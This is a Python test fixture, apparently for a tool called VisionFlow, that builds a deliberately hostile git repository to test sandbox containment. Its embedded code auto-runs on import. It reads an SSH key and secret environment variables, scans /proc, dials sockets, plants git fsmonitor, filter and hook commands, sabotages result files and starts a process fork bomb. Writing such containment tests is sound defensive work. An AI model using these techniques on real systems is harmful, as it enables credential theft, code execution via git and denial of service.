"""A repository whose code attacks whatever runs it, and whose history and files are traps.

What an attack came to is told by the names of its tests and by what its functions return, so that
one that got through would be seen in the run's own outputs. The secrets' values are nowhere in it.
"""

import os
import stat
from pathlib import Path
from typing import NamedTuple

from jobs import QUICK, git, write

ENV_NAME = "VISIONFLOW_TEST_SECRET"
READS = ("home", "expanded", "linked", "hard", "env", "proc")
DIALS = ("tcp", "tcp9500", "unix")
ATTACK = '''
"""Tries everything that code of a repository must not be able to do."""

import atexit
import glob
import os
import socket

SECRET, NAME, MARK = {secret!r}, {name!r}, {mark!r}
PLACES, REPOSITORIES = {places!r}, {repositories!r}
PORTS, LINE, VICTIM, TRUST, WORKSPACE = {ports!r}, {line!r}, {victim!r}, {trust!r}, {workspace!r}
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
HOOKS = ("post-checkout", "post-commit", "post-index-change", "reference-transaction", "pre-push")
SETTINGS = (
    "[core]\\n\\tfsmonitor = touch {{0}}/planted-monitor\\n\\thooksPath = {{0}}/hooks\\n"
    "[filter \\"evil\\"]\\n\\tsmudge = touch {{0}}/planted-smudge; cat\\n"
    "\\tclean = touch {{0}}/planted-clean; cat\\n\\trequired = true\\n"
    "[diff \\"evil\\"]\\n\\ttextconv = touch {{0}}/planted-textconv; cat\\n"
)


def tried(attempt):
    try:
        return "got-" + str(attempt())
    except Exception as error:
        return type(error).__name__


def text(path):
    with open(path) as file:
        return file.read()


def through(make):
    place = os.path.join(os.environ.get("TMPDIR") or ".", MARK + "-link")
    if os.path.lexists(place):
        os.unlink(place)
    make(SECRET, place)
    return text(place)


def environments():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            content = text(path)
        except OSError:
            continue
        found += [each for each in content.split("\\0") if each.startswith(NAME + "=")]
    if not found:
        raise LookupError(NAME)
    return found


def dial(family, address):
    with socket.socket(family) as line:
        line.settimeout(2)
        line.connect(address)
        line.sendall(b"hostile")


def put(path, content, mode="w"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as file:
            file.write(content)
        os.chmod(path, 0o755)
    except OSError:
        pass


def plant_in(repository, place):
    put(os.path.join(repository, "config"), "\\n" + SETTINGS.format(place), "a")
    put(os.path.join(repository, "info", "attributes"), "* filter=evil diff=evil\\n")
    for hook in HOOKS:
        script = "#!/bin/sh\\ntouch " + place + "/planted-" + hook + "\\n"
        put(os.path.join(repository, "hooks", hook), script)
        put(os.path.join(place, "hooks", hook), script)


def plant():
    for place in PLACES:
        put(os.path.join(place, "planted"), MARK)
    put(TRUST, '{{"workspaces": ["' + WORKSPACE + '"]}}')
    own = text(os.path.join(HERE, ".git"))[8:].strip() if os.path.isfile(HERE + "/.git") else ""
    private = own.partition("/worktrees/")[0]
    for repository in (*REPOSITORIES, *([private, own] if private else [])):
        plant_in(repository, PLACES[0])
        put(os.path.join(os.path.dirname(repository), "planted"), MARK)
    put(os.path.join(os.path.dirname(HERE), "planted"), MARK)
    evil = os.path.join(HERE, "evil.git")
    put(evil + "/HEAD", "ref: refs/heads/main\\n")
    put(evil + "/objects/x", "")
    put(evil + "/refs/x", "")
    plant_in(evil, PLACES[0])
    put(HERE + "/.gitattributes", "* filter=evil diff=evil\\n")


def at_the_end():
    """What is left for those who clean up, and for those who read results."""
    for folder in (os.environ.get("TMPDIR"), os.environ.get("HOME")):
        if folder:
            put(os.path.join(folder, "shut", "file"), "x")
            os.chmod(os.path.join(folder, "shut"), 0)
    log = os.environ.get("VISIONFLOW_TEST_LOG")
    for name in ("junit.xml", "coverage.sqlite") if log else ():
        place = os.path.join(os.path.dirname(log), name)
        if os.path.exists(place):
            os.unlink(place)
            os.symlink(SECRET, place)
    try:
        os.unlink(HERE + "/.git")
    except OSError:
        pass
    put(HERE + "/.git", "gitdir: " + HERE + "/evil.git\\n")
    try:
        os.rename(HERE + "/shop", HERE + "/shop-before")
        os.symlink(VICTIM, HERE + "/shop")
    except OSError:
        pass


def outcomes():
    found = {{
        "home": tried(lambda: text(SECRET)),
        "expanded": tried(lambda: text(os.path.expanduser("~/.ssh/id"))),
        "linked": tried(lambda: through(os.symlink)),
        "hard": tried(lambda: through(os.link)),
        "env": tried(lambda: os.environ[NAME]),
        "proc": tried(environments),
        "tcp": tried(lambda: dial(socket.AF_INET, ("127.0.0.1", PORTS[0]))),
        "tcp9500": tried(lambda: dial(socket.AF_INET, PORTS[1])),
        "unix": tried(lambda: dial(socket.AF_UNIX, LINE)),
    }}
    return "|".join(name + "=" + outcome for name, outcome in found.items())


plant()
OUTCOMES = outcomes()
atexit.register(at_the_end)
'''
PRICES = """import colorsys

from shop.attack import OUTCOMES


def price(count: int) -> str:
    return f"{count} {'colorsys' in globals()} {OUTCOMES[:100]}"
"""
FORKS = """import colorsys
import os

from shop.attack import MARK

LOOP = "trap '' TERM HUP INT; while :; do sleep 1 & wait; done"


def forks(count: int) -> str:
    # A daemon that goes on for ever, then children that stay, until no more are to be had.
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sh", ["sh", "-c", LOOP, MARK])
            os._exit(0)
        for _ in range(400):
            os.posix_spawn("/bin/sleep", [MARK, "3000"], {})
    except OSError as error:
        return type(error).__name__
    return f"all of them {count}"
"""
FIXABLE = "import colorsys\n\n\ndef double(n: int) -> int:\n    return 2 * n\n"
SUITE = """
import pytest

from shop.attack import OUTCOMES
from shop.prices import price
from shop.zforks import forks


@pytest.mark.parametrize("told", [pytest.param(OUTCOMES, id=OUTCOMES)])
def test_attack(told: str) -> None:
    assert price(1).endswith(told[:100])


def test_forks() -> None:
    assert forks(1)
"""


class Hostile(NamedTuple):
    """Where everything of it lies."""

    base: Path
    workspace: Path
    home: Path
    outside: Path
    out: Path
    own: Path
    """VISIONFLOW_HOME."""
    mark: str
    """In the arguments of every process that it leaves behind."""

    @property
    def temporary(self) -> Path:
        """TMPDIR of those who run it."""
        return self.base / "tmp"

    @property
    def key(self) -> Path:
        """The file in the home folder that nobody may read."""
        return self.home / ".ssh" / "id"


def make_hostile(base: Path, secret: str, tcp: int, tcp9500: tuple[str, int], line: str) -> Hostile:
    """Write all of it below `base`; `secret` goes into the home folder alone."""
    mark = f"visionflow-hostile-{os.getpid()}"
    made = Hostile(
        base, base / "ws", base / "home", base / "outside", base / "out", base / "own", mark
    )
    write(made.home, {".ssh/id": secret})
    write(made.outside, {
        "hard.py": FIXABLE, "linked.py": FIXABLE, "prices.py": "A = 1\n", "__init__.py": "A = 2\n",
    })  # fmt: skip
    for each in (made.out, made.own, made.temporary):
        each.mkdir()
    places = [made.outside, base, made.workspace, made.out, made.own, made.home]
    attack = ATTACK.format(
        secret=str(made.key), name=ENV_NAME, mark=mark, places=[str(each) for each in places],
        repositories=[str(made.workspace / ".git")], ports=[tcp, tcp9500], line=line,
        victim=str(made.outside), trust=str(made.own / "trust.json"),
        workspace=str(made.workspace),
    )  # fmt: skip
    top = write(made.workspace, {
        "pytest.ini": QUICK, "shop/__init__.py": "", "shop/attack.py": attack,
        "shop/prices.py": PRICES, "shop/zforks.py": FORKS, "plain.py": FIXABLE,
        "conftest.py": "import shop.attack\n", "tests/test_attack.py": SUITE,
        ".gitattributes": "*.py filter=evil diff=evil\n",
    })  # fmt: skip
    git(top, "init", "--quiet")
    git(top, "add", ".")
    git(top, "commit", "--quiet", "-m", "first")
    _set_traps(made)
    return made


def _set_traps(made: Hostile) -> None:
    """Links out of the tree, and a repository whose configuration is not to be obeyed."""
    top = made.workspace
    (top / "linked.py").symlink_to(made.outside / "linked.py")
    (top / "folder").symlink_to(made.outside)
    (top / "again.py").symlink_to("plain.py")
    (top / "hard.py").hardlink_to(made.outside / "hard.py")
    told = f"touch {made.outside}/planted-by-the-users-git"
    with (top / ".git" / "config").open("a") as config:
        config.write(
            f'[core]\n\tfsmonitor = {told}\n[filter "evil"]\n\tsmudge = {told}; cat\n'
            f'\tclean = {told}; cat\n[diff "evil"]\n\ttextconv = {told}; cat\n'
        )
    for name in ("post-checkout", "post-commit", "post-index-change", "reference-transaction"):
        hook = top / ".git" / "hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\n{told}\n")
        hook.chmod(0o755)


def planted_in(base: Path) -> list[str]:
    """Everything below `base` that some attack put there, links not followed."""
    found: list[str] = []
    for folder, folders, files in os.walk(base):
        found += [os.path.join(folder, n) for n in (*folders, *files) if n.startswith("planted")]
    return sorted(found)


def holding(base: Path, needle: bytes) -> list[str]:
    """Regular files below `base` that hold these bytes."""
    found: list[str] = []
    for folder, _, files in os.walk(base):
        for name in files:
            path = Path(folder, name)
            if stat.S_ISREG(path.lstat().st_mode) and needle in path.read_bytes():
                found.append(str(path))
    return sorted(found)
